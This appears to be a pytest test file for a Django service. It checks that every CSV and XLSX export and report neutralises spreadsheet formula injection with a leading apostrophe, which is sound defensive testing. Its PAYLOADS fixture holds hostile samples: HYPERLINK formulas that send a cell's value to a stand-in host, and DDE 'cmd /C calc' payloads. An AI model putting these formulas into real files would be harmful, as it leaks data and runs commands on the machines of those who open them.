"""Spreadsheet formula injection (issue 18 item 1, HIGH).

A person named ``=HYPERLINK("http://x.invalid/?"&B2,"点击")`` — or any text starting with = + - @, a tab or a
carriage return — was written as it is into the CSV exports, and became a live formula in the XLSX exports
and reports (openpyxl stores a string starting with "=" as a formula). Every CSV and XLSX the service writes
now goes through ``kernel.tabular.csv_chunks`` / ``write_xlsx``, which give such text a leading apostrophe
and store it in XLSX as a string. Each test below reads the file the user gets back, byte for byte.

Where a file's reader strips cells (rosters, status-event files), a leading tab or carriage return cannot
survive the import; the value as stored (e.g. ``=1+1``) still starts with a formula character and is what
the report must neutralise, so every prefix runs through every path all the same.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from interop import services as interop_services
from interop.models import RosterImport
from kernel.tabular import FORMULA_PREFIXES, csv_chunks, open_and_unlink, spreadsheet_safe, write_xlsx
from tests.factories import synthetic_id_number
from tests.interop.helpers import approved_enrollment, client_for

LINK = 'HYPERLINK("http://x.invalid/?"&B2,"点击")'
PAYLOADS = {
    "=": f"={LINK}",
    "+": f"+{LINK}",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": f"\t={LINK}",
    "\r": f"\r={LINK}",
}
PREFIXES = pytest.mark.parametrize("prefix", list(PAYLOADS), ids=["eq", "plus", "minus", "at", "tab", "cr"])
EXPORT_URL = "/api/v1/exports/enrollments/"
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


# ---------------------------------------------------------------------------
# Reading back what the user gets
# ---------------------------------------------------------------------------


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(content: bytes) -> list[list[str]]:
    """The CSV as its cells; every cell checked: none starts with a formula character, unless it is a plain
    number (a negative number written as a number is one, not a formula)."""
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES) or NUMBER.fullmatch(cell), cell
    return rows


def xlsx_cells(content: bytes) -> list[list]:
    """The first sheet's cells (openpyxl, full mode, so that data types are seen); none is a formula and no
    text starts with a formula character."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = [list(row) for row in sheet.iter_rows()]
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(FORMULA_PREFIXES), cell.value
    return rows


def xml_text(value: str) -> str:
    """XML reads a carriage return back as a line feed."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def assert_csv_neutralised(content: bytes, column: str, stored: list[str]) -> None:
    rows = csv_cells(content)
    index = rows[0].index(column)
    cells = [row[index] for row in rows[1:]]
    assert sorted(cells) == sorted("'" + value for value in stored)
    for value in stored:
        assert value.startswith(FORMULA_PREFIXES)  # the dangerous text did reach the file…
        assert ("'" + value[:2]).encode() in content  # …and in the bytes the cell starts with '=, '+, …
    if any(value.startswith("=") for value in stored):
        assert b"'=" in content


def assert_xlsx_neutralised(content: bytes, column: str, stored: list[str]) -> None:
    rows = xlsx_cells(content)
    index = [cell.value for cell in rows[0]].index(column)
    cells = [row[index] for row in rows[1:]]
    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in cells)
    assert sorted(cell.value for cell in cells) == sorted(xml_text("'" + value) for value in stored)


# ---------------------------------------------------------------------------
# The writer itself
# ---------------------------------------------------------------------------


def test_the_neutraliser_keeps_values_readable_and_numbers_numbers():
    for prefix, payload in PAYLOADS.items():
        assert spreadsheet_safe(payload) == "'" + payload, prefix
    for harmless in ("高血压病", "M03900", "2026-01-05", "'=already quoted", " =1+1", "a=b", ""):
        assert spreadsheet_safe(harmless) == harmless
    for value in (-5, 0, Decimal("-2.50"), -1.5, dt.date(2026, 1, 5), True, None):
        assert spreadsheet_safe(value) is value  # not text: a negative number is a number


def test_csv_and_xlsx_writers_neutralise_text_and_keep_numbers_and_dates():
    header = ["text", "number", "decimal", "date", "error-like"]
    rows = [[payload, -5, Decimal("-2.5"), dt.date(2026, 1, 5), "#N/A"] for payload in PAYLOADS.values()]
    text = csv_cells(b"".join(csv_chunks(header, rows)))
    assert [row[0] for row in text[1:]] == ["'" + payload for payload in PAYLOADS.values()]
    assert {tuple(row[1:]) for row in text[1:]} == {("-5", "-2.5", "2026-01-05", "#N/A")}
    with open_and_unlink(write_xlsx(header, rows)) as handle:
        cells = xlsx_cells(handle.read())
    for row, payload in zip(cells[1:], PAYLOADS.values(), strict=True):
        assert (row[0].value, row[0].data_type) == (xml_text("'" + payload), "s")
        assert (row[1].value, row[1].data_type) == (-5, "n")
        assert (row[2].value, row[2].data_type) == (-2.5, "n")
        assert row[3].value == dt.datetime(2026, 1, 5) and row[3].is_date
        assert (row[4].value, row[4].data_type) == ("#N/A", "s")  # text, not an Excel error value


def test_xlsx_writer_replaces_characters_xml_cannot_carry_instead_of_failing():
    with open_and_unlink(write_xlsx(["name"], [["张\x07三"], ["=\x00x"]])) as handle:
        cells = xlsx_cells(handle.read())
    assert [row[0].value for row in cells[1:]] == ["张\ufffd三", "'=\ufffdx"]


# ---------------------------------------------------------------------------
# Exports: office and national, CSV and XLSX, API and command
# ---------------------------------------------------------------------------


@PREFIXES
def test_every_export_neutralises_a_hostile_name(world, prefix, tmp_path):
    person = world.person(name=PAYLOADS[prefix], phone="+8613800001234")
    approved_enrollment(world, person=person)
    period = f"{timezone.localdate():%Y-%m}"
    names, phones = [PAYLOADS[prefix]], ["+8613800001234"]
    checks = {"csv": assert_csv_neutralised, "xlsx": assert_xlsx_neutralised}
    for file_format, check in checks.items():
        for user in (world.admin, world.reviewer):  # the office list with full and with masked ID numbers
            response = client_for(user).get(
                EXPORT_URL, {"region": "530100", "period": period, "shape": "office", "file_format": file_format}
            )
            assert response.status_code == 200
            content = body(response)
            check(content, "name", names)
            check(content, "phone", phones)  # the OWASP rule: "+86…" is shown as text, apostrophe and all
        response = client_for(world.admin).get(
            EXPORT_URL, {"region": "530100", "period": period, "shape": "national", "file_format": file_format}
        )
        assert response.status_code == 200
        content = body(response)
        check(content, "psn_name", names)
        check(content, "tel", phones)
        for shape, column in (("office", "name"), ("national", "psn_name")):
            output = tmp_path / f"{shape}.{file_format}"
            call_command("export_enrollments", region="530100", period=period, shape=shape, output=str(output))
            check(output.read_bytes(), column, names)


# ---------------------------------------------------------------------------
# Roster reports: CSV and XLSX, web download and API
# ---------------------------------------------------------------------------


def roster_csv(names: list[str]) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["身份证号", "姓名", "医保区划", "申报病种"])
    for name in names:
        writer.writerow([synthetic_id_number(), name, "530100", "M03900"])
    return buffer.getvalue().encode("utf-8")


@PREFIXES
def test_roster_reports_neutralise_hostile_cells(world, prefix):
    content = roster_csv([PAYLOADS[prefix]])
    roster = interop_services.roster_import_create(name="r.csv", content=content, actor=world.officer, queue=False)
    roster = interop_services.roster_import_run(import_id=roster.pk)
    stored = [row.name for row in roster.rows.all()]
    assert stored == [PAYLOADS[prefix].strip()]  # the reader strips cells: a tab or CR prefix leaves "=…"
    api = client_for(world.officer)
    web = Client()
    web.force_login(world.officer)
    downloads = {
        "csv": [
            api.get(f"/api/v1/roster-imports/{roster.pk}/report/?file_format=csv"),
            web.get(reverse("roster-report-csv", args=[roster.pk])),
        ],
        "xlsx": [
            api.get(f"/api/v1/roster-imports/{roster.pk}/report/?file_format=xlsx"),
            web.get(reverse("roster-report-xlsx", args=[roster.pk])),
        ],
    }
    for response in downloads["csv"]:
        assert response.status_code == 200
        assert_csv_neutralised(body(response), "name", stored)
    for response in downloads["xlsx"]:
        assert response.status_code == 200
        assert_xlsx_neutralised(body(response), "name", stored)


@PREFIXES
def test_roster_report_rows_as_stored_are_neutralised_whatever_they_hold(world, prefix):
    """A report row holding the raw value (a leading tab or carriage return included) is neutralised too."""
    from interop.models import RosterRow, RowStatus

    roster = RosterImport.objects.create(uploaded_by=world.admin, original_name="r.csv", file_format="csv")
    RosterRow.objects.create(
        roster_import=roster, line=2, name=PAYLOADS[prefix], declared=PAYLOADS[prefix], status=RowStatus.INVALID
    )
    api = client_for(world.admin)
    csv_body = body(api.get(f"/api/v1/roster-imports/{roster.pk}/report/?file_format=csv"))
    assert_csv_neutralised(csv_body, "name", [PAYLOADS[prefix]])
    assert_csv_neutralised(csv_body, "declared", [PAYLOADS[prefix]])
    xlsx_body = body(api.get(f"/api/v1/roster-imports/{roster.pk}/report/?file_format=xlsx"))
    assert_xlsx_neutralised(xlsx_body, "name", [PAYLOADS[prefix]])


# ---------------------------------------------------------------------------
# The administrators' report CSVs (enrollment/views.py report_csv)
# ---------------------------------------------------------------------------


@PREFIXES
def test_report_csvs_neutralise_hostile_disease_and_institution_names(world, prefix):
    world.hypertension.name = PAYLOADS[prefix]
    world.hypertension.save(update_fields=["name"])
    world.county.name = PAYLOADS[prefix]
    world.county.save(update_fields=["name"])
    approved_enrollment(world)
    client = Client()
    client.force_login(world.admin)
    client.cookies["django_language"] = "en"  # the column labels are translated
    by_disease = client.get(reverse("report-csv", args=["by_disease"]))
    assert by_disease.status_code == 200 and by_disease["Content-Type"].startswith("text/csv")
    assert_csv_neutralised(by_disease.content, "disease", [PAYLOADS[prefix]])
    by_institution = client.get(reverse("report-csv", args=["by_institution"]))
    assert_csv_neutralised(by_institution.content, "institution", [PAYLOADS[prefix]])
    for name in ("filings", "time_to_decision", "expiring"):  # numbers stay numbers
        rows = csv_cells(client.get(reverse("report-csv", args=[name])).content)
        assert all(cell.isdigit() or "-" in cell or not cell for row in rows[1:] for cell in row[1:])


# ---------------------------------------------------------------------------
# The status-event import report (interop/status_import.py, manage.py import_status_events)
# ---------------------------------------------------------------------------


@PREFIXES
def test_status_event_report_neutralises_hostile_cells(world, prefix, tmp_path):
    from interop.status_import import _kind

    person = world.person()
    source = tmp_path / "events.csv"
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["身份证号", "事件", "生效日期", "业务编号"])
    writer.writerow([person.id_number, PAYLOADS[prefix], "2026-01-05", PAYLOADS[prefix]])
    source.write_bytes(buffer.getvalue().encode("utf-8"))
    stored = PAYLOADS[prefix].strip()
    for suffix in ("csv", "xlsx"):
        report = tmp_path / f"report.{suffix}"
        call_command("import_status_events", str(source), user=world.officer.username, report=str(report))
        content = report.read_bytes()
        check = assert_csv_neutralised if suffix == "csv" else assert_xlsx_neutralised
        check(content, "event", [_kind(stored)])
        check(content, "reference", [stored])
